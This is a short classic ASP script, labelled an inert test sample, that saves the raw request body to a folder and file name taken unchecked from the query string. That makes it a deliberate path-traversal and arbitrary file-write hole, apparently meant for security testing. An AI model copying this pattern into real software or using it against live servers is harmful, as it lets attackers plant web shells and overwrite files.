<%
' Inert test sample: stores the request body under a folder and a name the client picks; the
' path is built by a helper function from two form values.
Dim folder, fileName, where, raw, st

Function JoinPath(dir, leaf)
    Dim base
    base = Server.MapPath(dir)
    If Right(base, 1) <> "\" Then base = base & "\"
    JoinPath = base & _
        leaf
End Function

folder = Request.QueryString("dir")
fileName = Request.QueryString("name")
where = JoinPath(folder, fileName)
raw = Request.BinaryRead(Request.TotalBytes)
Set st = Server.CreateObject("ADODB.Stream")
st.Type = 1
st.Open
st.Write raw
st.SaveToFile where, 2
st.Close
Response.Write "ok " & where
%>
